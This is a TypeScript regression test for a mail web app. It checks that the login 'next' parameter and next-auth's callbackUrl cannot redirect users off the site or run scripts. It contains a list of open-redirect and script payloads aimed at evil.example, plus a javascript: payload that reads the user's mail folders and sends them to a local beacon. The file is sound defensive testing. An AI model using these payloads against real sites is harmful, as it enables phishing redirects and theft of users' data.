// Issue 11, 1: `/login?next=...` may only lead to a path on this site.
// localPath() on its own, then the attack itself in Chromium: a link whose
// `next` is a javascript: URL must run nothing after sign-in (on main it read
// /api/mail/folders in the app's origin), and `next` naming another site in
// any spelling a browser accepts must not leave the site.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { DEFAULT_PAGE, localPath } from '../../app/_lib/local-path.ts';
import type { Platform } from '../e2e/platform-fixture.ts';
import { startWebPlatform, submitSignIn } from './web-platform.ts';

describe('localPath', () => {
  it('keeps a path on this site, with its query and fragment', () => {
    for (const path of ['/settings', '/mail/12?q=a%20b#top', '/domains/x.test/dns', '/a//b', '/%5Cx']) assert.equal(localPath(path), path);
  });

  it('gives the default for a script, another site, or anything that is not a plain path', () => {
    const hostile = [
      "javascript:fetch('/api/mail/folders')",
      'JavaScript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'https://evil.example',
      'http:evil.example',
      '//evil.example',
      '///evil.example',
      '/\\evil.example',
      '\\\\evil.example',
      '/\t/evil.example',
      '/\n/evil.example',
      '/\r/evil.example',
      '/x\u0000y',
      ' /settings',
      'settings',
      '',
      `/${'a'.repeat(3000)}`,
    ];
    for (const target of hostile) assert.equal(localPath(target), DEFAULT_PAGE, JSON.stringify(target));
    for (const target of [null, undefined, 42, ['/mail'], { toString: () => '/mail' }]) assert.equal(localPath(target), DEFAULT_PAGE);
    assert.equal(localPath('//evil.example', '/login'), '/login');
  });
});

describe('sign-in with a hostile next= in Chromium', { timeout: 300_000 }, () => {
  let platform: Platform;
  // Where the javascript: payload would report what it read.
  let beacon: Server;
  let beaconHits: string[] = [];
  let beaconUrl = '';

  before(async () => {
    beacon = createServer((request, response) => {
      beaconHits.push(request.url ?? '');
      response.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end();
    });
    await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve));
    beaconUrl = `http://127.0.0.1:${(beacon.address() as { port: number }).port}/stolen`;
    platform = await startWebPlatform([{ address: 'admin@redirect.test', role: 'admin' }]);
  });

  after(async () => {
    await platform?.stop();
    beacon?.close();
  });

  /** Signs in on /login?next=<next>; returns where the page ended up and every request it made. */
  async function signInWith(next: string): Promise<{ landed: string; requests: string[]; navigations: string[] }> {
    const context = await platform.browser.newContext();
    try {
      const page = await context.newPage();
      const requests: string[] = [];
      const navigations: string[] = [];
      page.on('request', (request) => {
        requests.push(request.url());
        if (request.isNavigationRequest() && request.frame() === page.mainFrame()) navigations.push(request.url());
      });
      await submitSignIn(page, `${platform.base}/login?next=${encodeURIComponent(next)}`, 'admin@redirect.test');
      await page.waitForURL((url) => url.pathname !== '/login', { timeout: 30_000 }).catch(() => undefined);
      await page.waitForLoadState('networkidle');
      return { landed: page.url(), requests, navigations };
    } finally {
      await context.close();
    }
  }

  it('a javascript: next runs nothing: no read of the folders, no beacon, and the default page', async () => {
    const payload = `javascript:fetch('/api/mail/folders').then(r=>r.text()).then(t=>fetch('${beaconUrl}?'+encodeURIComponent(t)))`;
    const { landed, requests } = await signInWith(payload);
    // The default page is the inbox: /mail sends on to the Inbox's folder page.
    assert.match(landed, new RegExp(`^${platform.base}/mail/\\d+$`));
    assert.deepEqual(requests.filter((url) => url.includes('/api/mail/folders') || url.startsWith(beaconUrl)), []);
    assert.deepEqual(beaconHits, []);
  });

  for (const next of ['https://evil.example/', '//evil.example/', '/\\evil.example/', '/\t/evil.example/']) {
    it(`next=${JSON.stringify(next)} stays on the site and lands on the default page`, async () => {
      const { landed, navigations } = await signInWith(next);
      // The default page is the inbox: /mail sends on to the Inbox's folder page.
      assert.match(landed, new RegExp(`^${platform.base}/mail/\\d+$`));
      assert.deepEqual(navigations.filter((url) => !url.startsWith(`${platform.base}/`)), []);
    });
  }

  it('a local next is still followed', async () => {
    const { landed } = await signInWith('/domains?from=link');
    assert.equal(landed, `${platform.base}/domains?from=link`);
  });

  it("next-auth's callbackUrl goes only to this site", async () => {
    const csrf = await fetch(`${platform.base}/api/auth/csrf`);
    const { csrfToken } = (await csrf.json()) as { csrfToken: string };
    const cookie = csrf.headers.getSetCookie().map((c) => c.split(';')[0]).join('; ');
    for (const callbackUrl of ['https://evil.example/', '//evil.example/', '/\\evil.example/', "javascript:alert('x')"]) {
      const response = await fetch(`${platform.base}/api/auth/signout`, {
        method: 'POST',
        // With no proxy trusted, a client's own X-Forwarded-Host does not move the site either.
        headers: { 'Content-Type': 'application/x-www-form-urlencoded', Cookie: cookie, 'X-Forwarded-Host': 'evil.example' },
        body: new URLSearchParams({ csrfToken, callbackUrl, json: 'true' }),
      });
      const { url } = (await response.json()) as { url: string };
      assert.equal(url, `${platform.base}${DEFAULT_PAGE}`, callbackUrl);
    }
  });
});
